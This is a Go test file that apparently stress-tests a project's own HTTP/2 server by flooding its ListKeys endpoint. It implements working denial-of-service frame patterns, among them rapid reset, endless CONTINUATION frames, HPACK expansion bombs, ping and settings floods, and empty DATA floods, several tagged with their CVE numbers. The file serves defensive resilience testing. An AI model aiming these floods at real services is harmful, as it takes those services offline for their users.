package real

import (
	"bytes"
	"context"
	"io"
	"strings"
	"testing"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/keyturn/keyturn/gen/keyturn/v1/keyturnv1connect"
)

// framed opens connections of HTTP/2, some at once, and lets send write frames to each
// until it fails or ctx ends. What comes is read, or, with deaf, is not: then answers
// wait at the server.
func (f *flooder) framed(ctx context.Context, deaf bool, send func(*http2.Framer) error) {
	together(ctx, 4, func(ctx context.Context, _ int) {
		conn, err := f.tls(ctx, "h2")
		if err != nil {
			return
		}
		defer conn.Close()
		defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
		if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
			return
		}
		framer := http2.NewFramer(conn, conn)
		if framer.WriteSettings() != nil {
			return
		}
		if !deaf {
			go func() {
				for {
					if _, err := framer.ReadFrame(); err != nil {
						return
					}
				}
			}()
		}
		for ctx.Err() == nil {
			if send(framer) != nil {
				return
			}
		}
	})
}

// header returns the block of a request's header, with more fields.
func (f *flooder) header(more ...[2]string) []byte {
	var head bytes.Buffer
	encoder := hpack.NewEncoder(&head)
	for _, field := range append([][2]string{
		{":method", "POST"},
		{":scheme", "https"},
		{":path", keyturnv1connect.ControlServiceListKeysProcedure},
		{":authority", "x"},
		{"content-type", "application/json"},
		{"authorization", "Bearer " + f.token},
	}, more...) {
		_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}) // a buffer takes all
	}
	return head.Bytes()
}

// ids returns the numbers of a client's streams, in their order. Several connections
// share them: each has gaps, which are allowed.
func ids() func() uint32 {
	id := make(chan uint32, 1)
	id <- 1
	return func() uint32 {
		n := <-id
		id <- n + 2
		return n
	}
}

// resets opens streams and resets them at once (CVE-2023-44487).
func (f *flooder) resets(ctx context.Context, _ *testing.T) {
	next, head := ids(), f.header()
	f.framed(ctx, false, func(framer *http2.Framer) error {
		id := next()
		if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndHeaders: true}); err != nil {
			return err
		}
		return framer.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

// continuations sends a header that never ends (CVE-2023-45288).
func (f *flooder) continuations(ctx context.Context, _ *testing.T) {
	var more bytes.Buffer
	encoder := hpack.NewEncoder(&more)
	for range 100 {
		_ = encoder.WriteField(hpack.HeaderField{Name: "x-more", Value: strings.Repeat("a", 100), Sensitive: true}) // a buffer takes all
	}
	next, head := ids(), f.header()
	f.framed(ctx, false, func(framer *http2.Framer) error {
		id := next()
		if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head}); err != nil {
			return err
		}
		for ctx.Err() == nil {
			if err := framer.WriteContinuation(id, false, more.Bytes()); err != nil {
				return err
			}
		}
		return nil
	})
}

// references sends headers that are small on the way and large once they are expanded:
// they refer to a large field thousands of times.
func (f *flooder) references(ctx context.Context, _ *testing.T) {
	next := ids()
	var fields [][2]string
	for range 8000 {
		fields = append(fields, [2]string{"x-large", strings.Repeat("b", 3900)})
	}
	head := f.header(fields...)
	f.framed(ctx, false, func(framer *http2.Framer) error {
		return framer.WriteHeaders(http2.HeadersFrameParam{StreamID: next(), BlockFragment: head, EndHeaders: true, EndStream: true})
	})
}

// pings asks for answers and reads none of them (CVE-2019-9512), settings likewise
// (CVE-2019-9515).
func (f *flooder) pings(ctx context.Context, _ *testing.T) {
	f.framed(ctx, true, func(framer *http2.Framer) error { return framer.WritePing(false, [8]byte{1}) })
}

func (f *flooder) settings(ctx context.Context, _ *testing.T) {
	f.framed(ctx, true, func(framer *http2.Framer) error {
		return framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16})
	})
}

// windows opens the window of the connection a byte at a time.
func (f *flooder) windows(ctx context.Context, _ *testing.T) {
	f.framed(ctx, false, func(framer *http2.Framer) error { return framer.WriteWindowUpdate(0, 1) })
}

// emptyData sends a body of nothing that never ends (CVE-2019-9518).
func (f *flooder) emptyData(ctx context.Context, _ *testing.T) {
	next, head := ids(), f.header()
	f.framed(ctx, false, func(framer *http2.Framer) error {
		id := next()
		if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndHeaders: true}); err != nil {
			return err
		}
		for ctx.Err() == nil {
			if err := framer.WriteData(id, false, nil); err != nil {
				return err
			}
		}
		return nil
	})
}
